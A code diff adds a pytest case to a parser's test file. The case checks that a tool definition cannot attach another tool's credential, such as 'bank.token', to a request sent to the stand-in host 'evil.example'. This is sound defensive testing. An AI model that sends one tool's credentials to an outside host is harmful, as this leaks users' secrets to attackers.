@@ -3,6 +3,7 @@
 import json
 from typing import Any
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -59,3 +60,24 @@ def test_any_bytes_are_parsed_or_refused(content: bytes) -> None:
 @settings(max_examples=200, deadline=None)
 def test_any_json_is_parsed_or_refused(document: dict[str, Any]) -> None:
     assert_usable(parse(json.dumps(document).encode()))
+
+
+@pytest.mark.parametrize(
+    ("credential", "n_endpoints"),
+    [("forecast.key", 1), ("shared", 1), ("bank.token", 0), ("forecast2.key", 0), (".x", 0)],
+)
+def test_the_credential_of_another_tool_cannot_be_sent_to_a_host_of_ones_own(
+    credential: str, n_endpoints: int
+) -> None:
+    auth = [{"credential": credential, "kind": "bearer"}]
+    http = {"method": "GET", "url": "https://evil.example/x", "auth": auth}
+    document = {"tool_name": "f", "api_list": [{"name": "a", "x-toolwright": {"http": http}}]}
+    parsed = parse_document(
+        json.dumps(document).encode(),
+        file="Weather/forecast.json",
+        category_name="Weather",
+        ref_category="Weather",
+        tool="forecast",
+    )
+    assert len(parsed.endpoints) == n_endpoints
+    assert len(parsed.refusals) == 1 - n_endpoints
